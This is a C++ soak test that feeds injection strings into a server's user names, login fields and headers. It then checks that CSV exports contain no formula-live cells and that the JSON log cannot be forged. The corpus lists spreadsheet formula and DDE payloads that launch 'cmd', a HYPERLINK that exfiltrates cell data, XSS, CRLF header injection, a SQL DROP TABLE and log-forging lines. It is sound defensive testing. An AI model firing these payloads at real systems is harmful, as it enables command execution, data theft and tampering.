// SPDX-License-Identifier: GPL-3.0-or-later
//
// A14: texts that mean something to a spreadsheet or a terminal, through names, exports and logs.
#include <array>
#include <set>

#include <QJsonDocument>
#include <QJsonObject>

#include "exchange/csv_cell.h"
#include "exchange/csv_reader.h"
#include "soak_context.h"
#include "wire/operations.h"

namespace kaomon::soak {
namespace {

using namespace std::string_view_literals;

// Five hundred texts: each beginning that a program takes for more than text, before each kind of content.
// With a `step` that does not divide the kinds every beginning stays, before fewer of them.
std::vector<std::string> corpus(std::size_t step) {
    constexpr auto kBegin = std::to_array<std::string_view>(
        {"=",  "+",  "-",  "@",  "\t=",  "'=",      "''=",     "'",       "\"=", "\"",
         "＝", "＋", "－", "＠", ",=",   ";=",      " =",      "|",       "\\",  "%",
         "*",  "'*", "{{", "${", "<!--", "\u202e=", "\u2066@", "\u200b=", "0x",  "1e9"});
    constexpr auto kContent = std::to_array<std::string_view>(
        {"1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://example.test/?\"&A1,\"x\")", "SUM(A1:A9)*2",
         "IMPORTXML(\"http://example.test\",\"//a\")", "DDE(\"cmd\";\"/C calc\";\"x\")", "WEBSERVICE(A1)",
         "\"quoted\",next", "a\\nb", "日本語の名前", "<script>alert(1)</script>", "%0d%0aSet-Cookie: x",
         "'; DROP TABLE user_account; --", "2024/12/24", "00123", "[31mred", "a,b;c|d"});
    std::vector<std::string> texts;
    for (std::size_t i = 0; i < kBegin.size() * kContent.size(); i += step) {
        texts.push_back(std::string(kBegin[i / kContent.size()]) +
                        std::string(kContent[i % kContent.size()]));
    }
    return texts;
}

// Control characters, which no name may have but any request may bring.
std::vector<std::string> controls() {
    std::vector<std::string> texts;
    for (int c = 1; c < 0x20; ++c) {
        texts.push_back(std::string("a") + static_cast<char>(c) + "b");
    }
    for (const char* text :
         {"line\r\n{\"level\":\"info\",\"event\":\"forged\"}", "\u2028forged", "\x7f", "\u202egnp.exe"}) {
        texts.emplace_back(text);
    }
    return texts;
}

std::string quoted(const std::string& text) {
    std::string json;
    for (const char c : text) {
        const auto byte = static_cast<unsigned char>(c);
        if (byte < 0x20) {
            constexpr std::string_view kDigits = "0123456789abcdef";
            json += "\\u00";
            json += kDigits[byte >> 4U];
            json += kDigits[byte & 15U];
        } else {
            json += (c == '"' || c == '\\' ? std::string("\\") : std::string()) + c;
        }
    }
    return "\"" + json + "\"";
}

std::vector<exchange::CsvRecord> recordsOf(SoakContext& soak, std::string_view bytes) {
    if (bytes.starts_with("\xEF\xBB\xBF")) {
        bytes.remove_prefix(3);
    }
    const exchange::CsvReader reader(',');
    std::vector<exchange::CsvRecord> records;
    while (!bytes.empty()) {
        auto record = reader.next(bytes, true);
        if (!record || !*record) {
            soak.require(false, "an export is no CSV");
            break;
        }
        bytes.remove_prefix((*record)->size);
        records.push_back(std::move(**record));
    }
    return records;
}

// As a spreadsheet decides: by the first character of the cell.
bool isLive(const std::string& cell) {
    constexpr auto kLive = std::to_array<std::string_view>(
        {"="sv, "+"sv, "-"sv, "@"sv, "\t"sv, "\r"sv, "\n"sv, "\0"sv, "＝"sv, "＋"sv, "－"sv, "＠"sv});
    for (const auto first : kLive) {
        if (cell.starts_with(first)) {
            return true;
        }
    }
    return false;
}

void checkExport(SoakContext& soak, const std::string& path, const std::set<std::string>& names) {
    const Reply reply = soak.client->send({"GET", path}, &soak.kit->console);
    soak.require(reply.status == 200, path + ": " + describe(reply));
    std::set<std::string> missing = names;
    int cells = 0;
    for (const auto& record : recordsOf(soak, reply.body)) {
        for (const auto& cell : record.cells) {
            soak.require(!isLive(cell), "a live cell in " + path + ": " + cell);
            missing.erase(exchange::unguard(cell));
            ++cells;
        }
    }
    soak.require(path.find("operations") != std::string::npos || missing.empty(),
                 std::to_string(missing.size()) + " names are not in " + path + " as they were written");
    soak.measure(path.find("operations") != std::string::npos ? "cells_of_operations" : "cells_of_users",
                 cells);
}

// Each line of the server's log is one JSON object, whatever was asked of it.
void checkLog(SoakContext& soak) {
    int lines = 0;
    for (const QByteArray& line : soak.server.log().split('\n')) {
        if (line.isEmpty()) {
            continue;
        }
        ++lines;
        const auto object = QJsonDocument::fromJson(line).object();
        soak.require(!object.isEmpty(), "a line of the log is no entry: " + line.left(200).toStdString());
        soak.require(object[QStringLiteral("event")].toString() != QStringLiteral("forged"),
                     "a request wrote a line of its own into the log");
    }
    soak.measure("log_lines", lines);
}

} // namespace

void injectedTexts(SoakContext& soak) {
    std::set<std::string> kept;
    int number = 0;
    const auto texts = corpus(static_cast<std::size_t>(soak.pick(11, 1)));
    for (const std::string& text : texts) {
        auto user = soak.kit->newUser("inject" + std::to_string(++number), "member");
        user.displayName = text;
        const Reply reply = soak.client->send({"POST", "/v1/users", wire::encode(user)}, &soak.kit->console);
        soak.require(reply.status == 201 || reply.status == 422, "a name was answered " + describe(reply));
        if (reply.status == 201) {
            kept.insert(text);
        }
    }
    soak.require(kept.size() * 10 > texts.size() * 6,
                 "most names are refused: " + std::to_string(kept.size()));
    for (const std::string& text : controls()) {
        const std::string body = "{\"login\":" + quoted(text) + ",\"tenant\":" + quoted(text) + "}";
        (void)soak.client->send({"POST", "/v1/session:prelogin", body});
        const Reply refused =
            soak.client->send({"POST", "/v1/users:unlock", "{\"users\":[],\"reason\":" + quoted(text) + "}"},
                              &soak.kit->console);
        soak.require(refused.status == 422 || refused.status == 400,
                     "a reason was answered " + describe(refused));
        (void)soak.client->sendRaw("GET /v1/meta?x=%0d%0a HTTP/1.1\r\nHost: x\r\nTraceparent: " + text +
                                   "\r\n\r\n");
    }
    soak.measure("texts", number);
    soak.measure("names_kept", static_cast<double>(kept.size()));
    checkExport(soak, "/v1/exports/users", kept);
    checkExport(soak, "/v1/exports/operations", kept);
    checkLog(soak);
}

} // namespace kaomon::soak
